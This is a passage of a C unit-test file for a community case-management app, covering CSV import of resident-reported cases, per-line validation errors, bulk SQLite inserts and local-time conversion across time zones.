  g_assert_cmpint (linli_record_get_enum (cover, "status"), ==, LINLI_CASE_STATUS_IN_PROGRESS);
  g_assert_cmpint (linli_record_get_int (cover, "reporter_id"), ==, 0);
  g_assert_cmpstr (linli_record_get_text (cover, "number"), ==, "2026-0002");

  /* An existing resident is reused; of the two 王芳, the one of the
   * building's grid is meant. */
  bins = case_by_title (f->store, "垃圾桶满溢");
  g_assert_cmpint (linli_record_get_int (bins, "reporter_id"), ==, f->resident);
  g_assert_cmpint (linli_record_get_int (bins, "worker_id"), ==, f->wang1);
  g_assert_cmpint (linli_record_get_enum (bins, "urgency"), ==, LINLI_URGENCY_HIGH);
  g_assert_true (time_is (linli_record_get_datetime (bins, "reported_at"), 2026, 2, 5, 8, 0));
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_RESIDENT), ==, n_residents + 1);
}

static void
test_import_defaults (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(LinliRecord) record = NULL;

  /* Only what a case needs: no source column means "其他". */
  import_ok (f, "标题,类别,登记时间\n路灯不亮,公共设施,2026-01-05 09:30\n", 1);
  record = case_by_title (f->store, "路灯不亮");
  g_assert_cmpstr (linli_record_get_text (record, "source"), ==, "其他");
  g_assert_cmpint (linli_record_get_enum (record, "status"), ==, LINLI_CASE_STATUS_REGISTERED);
  g_assert_cmpint (linli_record_get_enum (record, "urgency"), ==, LINLI_URGENCY_NORMAL);
  g_assert_cmpint (linli_record_get_int (record, "grid_id"), ==, 0);
  g_assert_true (isnan (linli_record_get_double (record, "lat")));
  g_assert_cmpstr (linli_record_get_text (record, "number"), ==, "2026-0001");
}

static void
test_import_labels (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(LinliRecord) a = NULL, b = NULL, c = NULL;

  /* Nicks, English labels in any case, Chinese labels; grid by code. */
  import_ok (f,
             "标题,类别,登记时间,状态,紧急程度,网格,满意度,办理结果,办结时间,回访时间\n"
             "甲,其他,2026-01-05,in-progress,URGENT,02,,,,\n"
             "乙,其他,2026-01-05,revisited,low,第一网格,Basically satisfied,已修复,2026-01-06,2026-01-07\n"
             "丙,其他,2026-01-05,挂起,特急,,不满意,,,\n",
             3);
  a = case_by_title (f->store, "甲");
  b = case_by_title (f->store, "乙");
  c = case_by_title (f->store, "丙");
  g_assert_cmpint (linli_record_get_enum (a, "status"), ==, LINLI_CASE_STATUS_IN_PROGRESS);
  g_assert_cmpint (linli_record_get_enum (a, "urgency"), ==, LINLI_URGENCY_URGENT);
  g_assert_cmpint (linli_record_get_int (a, "grid_id"), ==, f->grid2);
  g_assert_cmpint (linli_record_get_enum (b, "status"), ==, LINLI_CASE_STATUS_REVISITED);
  g_assert_cmpint (linli_record_get_enum (b, "satisfaction"), ==, LINLI_SATISFACTION_BASICALLY_SATISFIED);
  g_assert_cmpint (linli_record_get_int (b, "grid_id"), ==, f->grid1);
  g_assert_cmpint (linli_record_get_enum (c, "status"), ==, LINLI_CASE_STATUS_SUSPENDED);
  g_assert_cmpint (linli_record_get_enum (c, "satisfaction"), ==, LINLI_SATISFACTION_DISSATISFIED);
}

/* Files exported before the app said 承办人 everywhere have 网格员 over
 * the column of the person a case is given to: it still maps there, and
 * the row's worker is found. */
static void
test_import_old_worker_header (Fixture       *f,
                               gconstpointer  data)
{
  g_autoptr(LinliCsvTable) table = table_from_text (
    "编号,标题,描述,类别,子类别,来源,反映人,联系电话,楼栋,地址,网格,紧急程度,网格员,责任单位,"
    "登记时间,办理时限,状态,办结层级,办理结果,办结时间,满意度,回访时间,回访情况,重复于\n");
  g_autofree LinliCaseField *mapping = linli_case_csv_guess_mapping (table);
  g_autoptr(LinliRecord) old = NULL;
  g_autoptr(LinliRecord) current = NULL;

  for (guint c = 0; c < LINLI_N_CASE_FIELDS; c++)
    g_assert_cmpint (mapping[c], ==, c);
  g_assert_cmpint (mapping[12], ==, LINLI_CASE_FIELD_WORKER);

  import_ok (f,
             "标题,类别,登记时间,网格员\n"
             "旧表头,其他,2026-01-05 09:30,张伟\n",
             1);
  import_ok (f,
             "标题,类别,登记时间,承办人\n"
             "新表头,其他,2026-01-05 09:30,李娜\n",
             1);
  old = case_by_title (f->store, "旧表头");
  current = case_by_title (f->store, "新表头");
  g_assert_cmpint (linli_record_get_int (old, "worker_id"), ==, f->zhang);
  g_assert_cmpint (linli_record_get_int (current, "worker_id"), ==, f->li);
}

static void
test_import_numbers (Fixture       *f,
                     gconstpointer  data)
{
  g_autoptr(LinliRecord) stored = new_case ("2026-0005", "已有的事件");
  g_autoptr(LinliRecord) moved = NULL;
  g_autoptr(LinliRecord) kept = NULL;
  g_autoptr(LinliRecord) fresh = NULL;
  g_autoptr(LinliRecord) repeat = NULL;

  insert (f->store, stored);
  /* 2026-0005 is taken: that case gets the next free number, 2026-0006;
   * the case without one skips 2026-0007, which the file gives another. */
  import_ok (f,
             "编号,标题,类别,登记时间,状态,重复于\n"
             "2026-0005,重号的事件,其他,2026-01-05 09:30,,\n"
             "2026-0007,给了编号的事件,其他,2026-01-05 09:30,,\n"
             ",没有编号的事件,其他,2026-01-06 09:30,,\n"
             ",重复的事件,其他,2026-01-06 10:30,重复,2026-0005\n",
             4);
  moved = case_by_title (f->store, "重号的事件");
  kept = case_by_title (f->store, "给了编号的事件");
  fresh = case_by_title (f->store, "没有编号的事件");
  repeat = case_by_title (f->store, "重复的事件");
  g_assert_cmpstr (linli_record_get_text (moved, "number"), ==, "2026-0006");
  g_assert_cmpstr (linli_record_get_text (kept, "number"), ==, "2026-0007");
  g_assert_cmpstr (linli_record_get_text (fresh, "number"), ==, "2026-0008");
  /* A number of the file means the case of the file. */
  g_assert_cmpint (linli_record_get_int (repeat, "duplicate_of"), ==, linli_record_get_id (moved));
  g_assert_cmpint (linli_record_get_enum (repeat, "status"), ==, LINLI_CASE_STATUS_DUPLICATE);
}

static void
test_import_duplicate_of_stored (Fixture       *f,
                                 gconstpointer  data)
{
  g_autoptr(LinliRecord) stored = new_case ("2025-0042", "已有的事件");
  g_autoptr(LinliRecord) repeat = NULL;

  insert (f->store, stored);
  import_ok (f,
             "标题,类别,登记时间,状态,重复于\n"
             "重复的事件,其他,2026-01-06 10:30,duplicate,2025-0042\n",
             1);
  repeat = case_by_title (f->store, "重复的事件");
  g_assert_cmpint (linli_record_get_int (repeat, "duplicate_of"), ==, linli_record_get_id (stored));
}

/* Every bad row is named by the line it starts on, and nothing is written. */
static void
test_import_malformed (Fixture       *f,
                       gconstpointer  data)
{
  const char *text =
    "编号,标题,描述,类别,来源,反映人,联系电话,楼栋,网格,网格员,登记时间,办理时限,状态,办理结果,办结时间,重复于\n"
    /* 2: right */
    "2026-0001,路灯不亮,,公共设施,网格巡查,,,,,,2026-01-05 09:30,,,,,\n"
    /* 3-4: a description of two lines, and no title */
    "2026-0002,,\"两行\n描述\",公共设施,网格巡查,,,,,,2026-01-05 09:30,,,,,\n"
    /* 5: no category, no source, a time that is not one */
    "2026-0003,漏水,,,,,,,,,明天,,,,,\n"
    /* 6: in the future; due before reported */
    "2026-0004,漏水,,水电维修,居民来电,,,,,,2026-03-02 08:00,2026-03-01 08:00,,,,\n"
    /* 7: a phone that is not one, and a phone without a name */
    "2026-0005,漏水,,水电维修,居民来电,,1381234,,,,2026-01-05 09:30,,,,,\n"
    /* 8: no such grid, building or worker */
    "2026-0006,漏水,,水电维修,居民来电,,,9号楼,第九网格,赵六,2026-01-05 09:30,,,,,\n"
    /* 9: 王芳 without a grid to tell which */
    "2026-0007,漏水,,水电维修,居民来电,,,,,王芳,2026-01-05 09:30,,,,,\n"
    /* 10: resolved without a resolution or a time; a status nobody knows */
    "2026-0008,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,已办结,,,\n"
    "2026-0009,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,完蛋了,,,\n"
    /* 12: the number of line 2 again; 13: a number that is not one */
    "2026-0001,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,,,,\n"
    "26-1,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,,,,\n"
    /* 14: a duplicate of nothing; 15: of itself */
    "2026-0010,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,重复,,,2026-0999\n"
    "2026-0011,漏水,,水电维修,居民来电,,,,,,2026-01-05 09:30,,重复,,,2026-0011\n"
    /* 16: a title too long */
    "2026-0012,LONG_TITLE,,水电维修,居民来电,,,,,,2026-01-05 09:30,,,,,\n"
    /* 17: right again */
    "2026-0013,漏水,,水电维修,居民来电,王大爷,13812341234,,,,2026-01-05 09:30,,,,,\n";
  g_autofree char *long_title = g_strnfill (101, 'x');
  g_autoptr(GString) file_text = g_string_new (text);
  const char *file = (g_string_replace (file_text, "LONG_TITLE", long_title, 1), file_text->str);
  g_autofree char *before = counts (f->store);
  g_autofree char *after = NULL;
  g_autofree char *lines = NULL;
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GPtrArray) check_errors = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCsvTable) table = table_from_text (file);
  g_autofree LinliCaseField *mapping = linli_case_csv_guess_mapping (table);
  guint n = 99;

  /* The check for the preview finds the same, and writes nothing either. */
  g_assert_false (linli_case_csv_check (f->store, table, mapping, &check_errors, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_ROWS);
  g_clear_error (&error);

  g_assert_false (linli_case_csv_import (f->store, table, mapping, &row_errors, &n, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_ROWS);
  g_assert_nonnull (strstr (error->message, "13 rows"));
  g_assert_cmpuint (n, ==, 0);
  after = counts (f->store);
  g_assert_cmpstr (before, ==, after);

  lines = error_lines (row_errors);
  g_assert_cmpstr (lines, ==, "3,5,5,5,6,6,7,7,8,8,8,9,10,10,11,12,13,14,15,16");
  g_assert_cmpuint (check_errors->len, ==, row_errors->len);
  g_assert_true (some_error_says (row_errors, 3, "title is empty"));
  g_assert_true (some_error_says (row_errors, 5, "category is empty"));
  g_assert_true (some_error_says (row_errors, 5, "source is empty"));
  g_assert_true (some_error_says (row_errors, 5, "“明天” is not a date"));
  g_assert_true (some_error_says (row_errors, 6, "in the future"));
  g_assert_true (some_error_says (row_errors, 6, "due time"));
  g_assert_true (some_error_says (row_errors, 7, "“1381234” is neither"));
  g_assert_true (some_error_says (row_errors, 7, "no reporter"));
  g_assert_true (some_error_says (row_errors, 8, "no grid “第九网格”"));
  g_assert_true (some_error_says (row_errors, 8, "no building “9号楼”"));
  g_assert_true (some_error_says (row_errors, 8, "no grid worker “赵六”"));
  g_assert_true (some_error_says (row_errors, 9, "several grid workers called “王芳”"));
  g_assert_true (some_error_says (row_errors, 10, "resolution is empty"));
  g_assert_true (some_error_says (row_errors, 10, "no resolved time"));
  g_assert_true (some_error_says (row_errors, 11, "“完蛋了” is not one of"));
  g_assert_true (some_error_says (row_errors, 12, "line 2 too"));
  g_assert_true (some_error_says (row_errors, 13, "“26-1”"));
  g_assert_true (some_error_says (row_errors, 14, "no case “2026-0999”"));
  g_assert_true (some_error_says (row_errors, 15, "itself"));
  g_assert_true (some_error_says (row_errors, 16, "longer than 100"));
}

static void
test_import_duplicate_loop (Fixture       *f,
                            gconstpointer  data)
{
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *lines = NULL;

  g_assert_false (import_text (f,
                               "编号,标题,类别,登记时间,状态,重复于\n"
                               "2026-0001,甲,其他,2026-01-05,重复,2026-0002\n"
                               "2026-0002,乙,其他,2026-01-05,重复,2026-0001\n",
                               &row_errors, NULL, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_ROWS);
  lines = error_lines (row_errors);
  g_assert_cmpstr (lines, ==, "2");
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_CASE), ==, 0);
}

static void
test_import_mapping_errors (Fixture       *f,
                            gconstpointer  data)
{
  g_autoptr(LinliCsvTable) table = table_from_text ("标题,类别,时间,日期\n甲,其他,2026-01-05,2026-01-05\n");
  LinliCaseField no_time[] = {
    LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_IGNORE, LINLI_CASE_FIELD_IGNORE,
  };
  LinliCaseField twice[] = {
    LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_REPORTED_AT, LINLI_CASE_FIELD_REPORTED_AT,
  };
  LinliCaseField right[] = {
    LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_REPORTED_AT, LINLI_CASE_FIELD_IGNORE,
  };
  g_autoptr(GError) error = NULL;
  guint n = 0;

  g_assert_false (linli_case_csv_import (f->store, table, no_time, NULL, NULL, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_MAPPING);
  g_assert_nonnull (strstr (error->message, "Reported"));
  g_clear_error (&error);
  g_assert_false (linli_case_csv_import (f->store, table, twice, NULL, NULL, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_MAPPING);
  g_assert_nonnull (strstr (error->message, "“时间” and “日期”"));
  g_clear_error (&error);
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_CASE), ==, 0);

  g_assert_true (linli_case_csv_import (f->store, table, right, NULL, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 1);
}

static void
test_import_times (Fixture       *f,
                   gconstpointer  data)
{
  static const struct { const char *text; int y, mo, d, h, mi; } times[] = {
    { "2026-01-05 09:30", 2026, 1, 5, 9, 30 },
    { "2026-01-05 09:30:59", 2026, 1, 5, 9, 30 },
    { "2026/1/5 9:30", 2026, 1, 5, 9, 30 },
    { "2026.01.05", 2026, 1, 5, 0, 0 },
    { "2026-1-5", 2026, 1, 5, 0, 0 },
    { "2026年1月5日", 2026, 1, 5, 0, 0 },
    { "2026年1月5日 9:30", 2026, 1, 5, 9, 30 },
    { "2026年1月5日9时30分", 2026, 1, 5, 9, 30 },
    { "2026-01-05T09:30:00+08:00", 2026, 1, 5, 9, 30 },
    { "2026-01-05T01:30:00Z", 2026, 1, 5, 9, 30 },
  };
  static const char * const bad[] = {
    "2026-13-05", "2026-02-30", "2026-01-05 24:00", "05/01/2026", "2026-01", "昨天", "2026-01-05 9",
  };
  g_autoptr(GString) text = g_string_new ("标题,类别,登记时间\n");

  for (guint i = 0; i < G_N_ELEMENTS (times); i++)
    g_string_append_printf (text, "t%u,其他,%s\n", i, times[i].text);
  import_ok (f, text->str, G_N_ELEMENTS (times));
  for (guint i = 0; i < G_N_ELEMENTS (times); i++)
    {
      g_autofree char *title = g_strdup_printf ("t%u", i);
      g_autoptr(LinliRecord) record = case_by_title (f->store, title);
      GDateTime *reported = linli_record_get_datetime (record, "reported_at");
      g_autoptr(GDateTime) expected = local_time (times[i].y, times[i].mo, times[i].d, times[i].h, times[i].mi);
      g_autoptr(GDateTime) minute = g_date_time_add_seconds (reported, -g_date_time_get_seconds (reported));

      g_assert_true (g_date_time_equal (minute, expected));
    }

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autofree char *file = g_strdup_printf ("标题,类别,登记时间\n甲,其他,%s\n", bad[i]);
      g_autoptr(GPtrArray) row_errors = NULL;
      g_autoptr(GError) error = NULL;

      g_assert_false (import_text (f, file, &row_errors, NULL, &error));
      g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_ROWS);
      g_assert_true (some_error_says (row_errors, 2, "is not a date"));
    }
}

static void
test_import_phones (Fixture       *f,
                    gconstpointer  data)
{
  static const char * const good[] = { "13812345678", "0537-1234567", "010-12345678", "05371234567" };
  static const char * const bad[] = { "1381234567", "23812345678", "537-1234567", "0537-12345", "138 1234 5678", "电话" };

  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    {
      g_autofree char *file = g_strdup_printf ("标题,类别,登记时间,反映人,电话\n甲,其他,2026-01-05,居民%u,%s\n", i, good[i]);
      import_ok (f, file, 1);
    }
  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autofree char *file = g_strdup_printf ("标题,类别,登记时间,反映人,电话\n甲,其他,2026-01-05,居民,%s\n", bad[i]);
      g_autoptr(GPtrArray) row_errors = NULL;
      g_autoptr(GError) error = NULL;

      g_assert_false (import_text (f, file, &row_errors, NULL, &error));
      g_assert_true (some_error_says (row_errors, 2, "neither"));
    }
}

static void
test_import_empty (Fixture       *f,
                   gconstpointer  data)
{
  import_ok (f, "标题,类别,登记时间\n", 0);
}

/* ------------------------------------------------------------------------ */
/* The bulk insert an import writes through, against linli_store_insert()    */

/* Every row of @table in id order, each value with its storage class, so
 * that 1 and '1' or 1 and 1.0 differ. */
static char *
dump_table (LinliStore *store,
            const char *table)
{
  g_autofree char *sql = g_strdup_printf ("SELECT * FROM %s ORDER BY id", table);
  g_autoptr(sqlite3_stmt) stmt = NULL;
  GString *out = g_string_new (NULL);

  g_assert_cmpint (sqlite3_prepare_v2 (linli_store_get_db (store), sql, -1, &stmt, NULL), ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    {
      for (int i = 0; i < sqlite3_column_count (stmt); i++)
        {
          if (i > 0)
            g_string_append_c (out, '|');
          switch (sqlite3_column_type (stmt, i))
            {
            case SQLITE_NULL:
              g_string_append (out, "NULL");
              break;
            case SQLITE_INTEGER:
              g_string_append_printf (out, "%" G_GINT64_FORMAT, (gint64) sqlite3_column_int64 (stmt, i));
              break;
            case SQLITE_FLOAT:
              g_string_append_printf (out, "r%.17g", sqlite3_column_double (stmt, i));
              break;
            default:
              g_string_append_printf (out, "'%s'", (const char *) sqlite3_column_text (stmt, i));
            }
        }
      g_string_append_c (out, '\n');
    }
  return g_string_free (out, FALSE);
}

static void
assert_same_tables (LinliStore *a,
                    LinliStore *b)
{
  static const char *tables[] = { "case_record", "case_event", "resident" };

  for (guint i = 0; i < G_N_ELEMENTS (tables); i++)
    {
      g_autofree char *rows_a = dump_table (a, tables[i]);
      g_autofree char *rows_b = dump_table (b, tables[i]);

      g_assert_cmpstr (rows_a, ==, rows_b);
    }
}

/* What ::changed told, one line per emission, sorted. */
static void
log_change (LinliStore  *store,
            GType        type,
            LinliChange  change,
            gint64       id,
            GPtrArray   *log)
{
  g_ptr_array_add (log, g_strdup_printf ("%s %d %" G_GINT64_FORMAT, g_type_name (type), change, id));
}

static int
compare_lines (gconstpointer a,
               gconstpointer b)
{
  return strcmp (*(const char **) a, *(const char **) b);
}

static char *
take_log (GPtrArray *log)
{
  g_autoptr(GString) text = g_string_new (NULL);

  g_ptr_array_sort (log, compare_lines);
  for (guint i = 0; i < log->len; i++)
    g_string_append_printf (text, "%s\n", (const char *) g_ptr_array_index (log, i));
  g_ptr_array_set_size (log, 0);
  return g_strdup (text->str);
}

/* The record linli_store_insert() is given for @values. */
static LinliRecord *
record_from_values (const LinliCaseValues *values)
{
  LinliRecord *record = linli_record_new (LINLI_TYPE_CASE);
  const struct { const char *column; gint64 time; } times[] = {
    { "reported_at", values->reported_at }, { "due_at", values->due_at },
    { "resolved_at", values->resolved_at }, { "revisited_at", values->revisited_at },
  };

  linli_record_set_text (record, "number", values->number);
  linli_record_set_text (record, "title", values->title);
  linli_record_set_text (record, "description", values->description);
  linli_record_set_text (record, "category", values->category);
  linli_record_set_text (record, "subcategory", values->subcategory);
  linli_record_set_text (record, "source", values->source);
  linli_record_set_int (record, "reporter_id", values->reporter_id);
  linli_record_set_int (record, "building_id", values->building_id);
  linli_record_set_text (record, "address", values->address);
  linli_record_set_double (record, "lat", values->lat);
  linli_record_set_double (record, "lon", values->lon);
  linli_record_set_int (record, "grid_id", values->grid_id);
  linli_record_set_bool (record, "grid_overridden", values->grid_overridden);
  linli_record_set_enum (record, "urgency", values->urgency);
  linli_record_set_int (record, "worker_id", values->worker_id);
  linli_record_set_text (record, "responsible_unit", values->responsible_unit);
  linli_record_set_enum (record, "status", values->status);
  linli_record_set_enum (record, "resolution_level", values->resolution_level);
  linli_record_set_text (record, "resolution", values->resolution);
  linli_record_set_enum (record, "satisfaction", values->satisfaction);
  linli_record_set_text (record, "revisit_notes", values->revisit_notes);
  linli_record_set_int (record, "duplicate_of", values->duplicate_of);
  for (guint i = 0; i < G_N_ELEMENTS (times); i++)
    if (times[i].time != LINLI_CASE_NO_TIME)
      {
        g_autoptr(GDateTime) time = g_date_time_new_from_unix_local (times[i].time);
        linli_record_set_datetime (record, times[i].column, time);
      }
  return record;
}

static gint64
unix_time (int year,
           int month,
           int day,
           int hour,
           int minute)
{
  g_autoptr(GDateTime) time = local_time (year, month, day, hour, minute);

  return g_date_time_to_unix (time);
}

/* Writes @values through both paths, @f's store by the bulk insert and
 * @g's by linli_store_insert(): both succeed with the same id, or both
 * fail alike. A bulk of its own when @bulk is %NULL, as a case alone is
 * written: a transaction, its timeline entry written at the end. Returns
 * the id, or 0. */
static gint64
insert_both (Fixture               *f,
             Fixture               *g,
             LinliCaseBulk         *bulk,
             const LinliCaseValues *values)
{
  g_autoptr(LinliRecord) record = record_from_values (values);
  g_autoptr(LinliCaseBulk) own = NULL;
  g_autoptr(GError) bulk_error = NULL;
  g_autoptr(GError) error = NULL;
  gint64 id = -1;
  gboolean ok;

  if (bulk == NULL)
    {
      g_assert_true (linli_store_begin_batch (f->store, &error));
      bulk = own = linli_case_bulk_begin (f->store, 1, NULL, &error);
      g_assert_no_error (error);
    }
  ok = linli_case_bulk_insert (bulk, values, &id, &bulk_error);
  if (own != NULL && ok)
    {
      g_assert_true (linli_case_bulk_end (own, &error));
      g_assert_true (linli_store_commit (f->store, &error));
      g_assert_no_error (error);
    }
  else if (own != NULL)
    linli_store_rollback (f->store);

  g_assert_cmpint (ok, ==, linli_store_insert (g->store, record, &error));
  g_assert_cmpint (id, ==, linli_record_get_id (record));
  if (ok)
    g_assert_no_error (bulk_error);
  else
    {
      g_assert_error (bulk_error, error->domain, error->code);
      g_assert_cmpstr (bulk_error->message, ==, error->message);
    }
  return id;
}

static void
test_bulk_insert_same (Fixture       *f,
                       gconstpointer  data)
{
  Fixture other = { 0, }, *g = &other;
  g_autoptr(GPtrArray) log_f = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GPtrArray) log_g = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GError) error = NULL;
  g_autoptr(LinliCaseBulk) bulk = NULL;
  LinliCaseValues full, least, repeat, bad;
  gint64 first;

  fixture_set_up (g, NULL);
  g_signal_connect (f->store, "changed", G_CALLBACK (log_change), log_f);
  g_signal_connect (g->store, "changed", G_CALLBACK (log_change), log_g);

  /* Every column, texts that need quoting, times at odd minutes. */
  linli_case_values_init (&full);
  full.number = "2026-0001";
  full.title = "卫生间漏水渗到楼下";
  full.description = "居民反映：\"漏水\"严重, 渗到楼下。\n已联系物业 'a'";
  full.category = "水电维修";
  full.subcategory = "漏水";
  full.source = "居民来电";
  full.reporter_id = f->resident;
  full.building_id = f->building2;
  full.address = "1单元3楼西户";
  full.lat = 35.40123456789012;
  full.lon = 116.5819;
  full.grid_id = f->grid1;
  full.grid_overridden = TRUE;
  full.urgency = LINLI_URGENCY_URGENT;
  full.worker_id = f->wang2;
  full.responsible_unit = "物业";
  full.reported_at = unix_time (2026, 2, 3, 9, 5);
  full.due_at = unix_time (2026, 2, 4, 9, 5);
  full.status = LINLI_CASE_STATUS_REVISITED;
  full.resolution_level = LINLI_RESOLUTION_LEVEL_COMMUNITY;
  full.resolution = "更换水管";
  full.resolved_at = unix_time (2026, 2, 3, 16, 41);
  full.satisfaction = LINLI_SATISFACTION_BASICALLY_SATISFIED;
  full.revisited_at = unix_time (2026, 2, 5, 23, 59) + 59;
  full.revisit_notes = "基本满意";

  /* Only what a case needs, long ago. */
  linli_case_values_init (&least);
  least.number = "1999-0042";
  least.title = "路灯不亮";
  least.category = "公共设施";
  least.source = "其他";
  least.reported_at = unix_time (1999, 12, 31, 23, 59);

  /* One case alone: its own transaction, its own row told. */
  g_assert_cmpint (insert_both (f, g, NULL, &least), >, 0);
  {
    g_autofree char *told_f = take_log (log_f);
    g_autofree char *told_g = take_log (log_g);
    g_assert_cmpstr (told_f, ==, told_g);
    g_assert_nonnull (strstr (told_f, "LinliCase 0 "));
  }

  /* Several in a batch, one the duplicate of another. */
  g_assert_true (linli_store_begin_batch (f->store, &error));
  g_assert_true (linli_store_begin_batch (g->store, &error));
  bulk = linli_case_bulk_begin (f->store, 2, NULL, &error);
  g_assert_no_error (error);
  first = insert_both (f, g, bulk, &full);
  g_assert_cmpint (first, >, 0);
  repeat = least;
  repeat.number = "2026-0002";
  repeat.status = LINLI_CASE_STATUS_DUPLICATE;
  repeat.duplicate_of = first;
  repeat.reported_at = unix_time (2026, 2, 3, 9, 6);
  g_assert_cmpint (insert_both (f, g, bulk, &repeat), >, 0);
  g_assert_true (linli_case_bulk_end (bulk, &error));
  g_clear_pointer (&bulk, linli_case_bulk_free);
  g_assert_true (linli_store_commit (f->store, &error));
  g_assert_true (linli_store_commit (g->store, &error));
  g_assert_no_error (error);
  {
    g_autofree char *told_f = take_log (log_f);
    g_autofree char *told_g = take_log (log_g);
    g_assert_cmpstr (told_f, ==, told_g);
  }
  assert_same_tables (f->store, g->store);

  /* A case the schema refuses fails alike, and the batch with it. */
  bad = full;
  bad.number = "2026-0003";
  bad.title = "  ";
  g_assert_true (linli_store_begin_batch (f->store, &error));
  g_assert_true (linli_store_begin_batch (g->store, &error));
  bulk = linli_case_bulk_begin (f->store, 1, NULL, &error);
  g_assert_cmpint (insert_both (f, g, bulk, &bad), ==, 0);
  g_clear_pointer (&bulk, linli_case_bulk_free);
  g_assert_false (linli_store_commit (f->store, NULL));
  g_assert_false (linli_store_commit (g->store, NULL));
  {
    g_autofree char *told_f = take_log (log_f);
    g_autofree char *told_g = take_log (log_g);
    g_assert_cmpstr (told_f, ==, told_g);
  }
  /* A number taken, a reference to nothing, a due time before the report. */
  bad.title = "标题";
  bad.number = "2026-0001";
  g_assert_cmpint (insert_both (f, g, NULL, &bad), ==, 0);
  bad.number = "2026-0003";
  bad.worker_id = 999;
  g_assert_cmpint (insert_both (f, g, NULL, &bad), ==, 0);
  bad.worker_id = 0;
  bad.due_at = bad.reported_at;
  g_assert_cmpint (insert_both (f, g, NULL, &bad), ==, 0);
  assert_same_tables (f->store, g->store);
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_CASE), ==, 3);
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_DIARY_ENTRY), ==, 3);

  fixture_tear_down (g, NULL);
}

/* The times the bulk insert formats by hand are those the store writes
 * from a GDateTime, in zones with and without summer time, over the
 * change of the clocks and across the range of years. */
static void
test_bulk_times (Fixture       *f,
                 gconstpointer  data)
{
  static const char *zones[] = { "Asia/Shanghai", "America/New_York", "Australia/Lord_Howe", "UTC" };
  const char *saved = g_getenv ("TZ");
  g_autofree char *saved_tz = g_strdup (saved);

  for (guint z = 0; z < G_N_ELEMENTS (zones); z++)
    {
      g_autoptr(GTimeZone) zone = NULL;
      /* From year 1 on, in steps that are not whole hours or days. */
      gint64 start = G_GINT64_CONSTANT (-62135596800) + 86400;

      g_setenv ("TZ", zones[z], TRUE);
      zone = g_time_zone_new_local ();
      for (gint64 t = start; t < G_GINT64_CONSTANT (253402214400); t += G_GINT64_CONSTANT (86400 * 97 + 3671))
        {
          g_autoptr(GDateTime) time = g_date_time_new_from_unix_local (t);
          g_autofree char *expected = linli_record_sql_format_time (time);
          char buffer[LINLI_RECORD_SQL_TIME_SIZE];

          g_assert_cmpstr (linli_record_sql_format_unix_time (t, zone, buffer), ==, expected);
        }
      /* Each hour of 2021, over both changes of the clocks. */
      for (gint64 t = 1609459200; t < 1640995200; t += 1800 + 7)
        {
          g_autoptr(GDateTime) time = g_date_time_new_from_unix_local (t);
          g_autofree char *expected = linli_record_sql_format_time (time);
          char buffer[LINLI_RECORD_SQL_TIME_SIZE];

          g_assert_cmpstr (linli_record_sql_format_unix_time (t, zone, buffer), ==, expected);
        }
    }

  if (saved_tz != NULL)
    g_setenv ("TZ", saved_tz, TRUE);
  else
    g_unsetenv ("TZ");
}

/* An import reads local times without a GDateTime for each: the same
 * Unix times, in zones with and without summer time, over the changes of
 * the clocks (the hour skipped and the hour repeated) and across the
 * years it reads so; outside them it says to ask GDateTime. */
static void
test_unix_from_local (Fixture       *f,
                      gconstpointer  data)
{
  static const char *zones[] = { "Asia/Shanghai", "America/New_York", "Australia/Lord_Howe", "Europe/London", "UTC" };
  gint64 time = 0;

  for (guint z = 0; z < G_N_ELEMENTS (zones); z++)
    {
      g_autoptr(GTimeZone) zone = g_time_zone_new_identifier (zones[z]);
      guint n = 0;

      g_assert_nonnull (zone);
      /* Every 7 min 13 s of 2021, and a day a month from 1900 to 2999. */
      for (gint64 t = 1609459200 - 86400; t < 1640995200 + 86400; t += 433)
        {
          g_autoptr(GDateTime) utc = g_date_time_new_from_unix_utc (t);
          g_autoptr(GDateTime) local = g_date_time_to_timezone (utc, zone);
          /* Also the minutes a wall clock shows that do not exist. */
          int minute = (g_date_time_get_minute (local) + (n++ % 3 == 0 ? 31 : 0)) % 60;
          g_autoptr(GDateTime) expected = g_date_time_new (zone, g_date_time_get_year (local),
                                                           g_date_time_get_month (local),
                                                           g_date_time_get_day_of_month (local),
                                                           g_date_time_get_hour (local), minute,
                                                           g_date_time_get_second (local));

          g_assert_true (linli_record_sql_unix_from_local (zone, g_date_time_get_year (local),
                                                           g_date_time_get_month (local),
                                                           g_date_time_get_day_of_month (local),
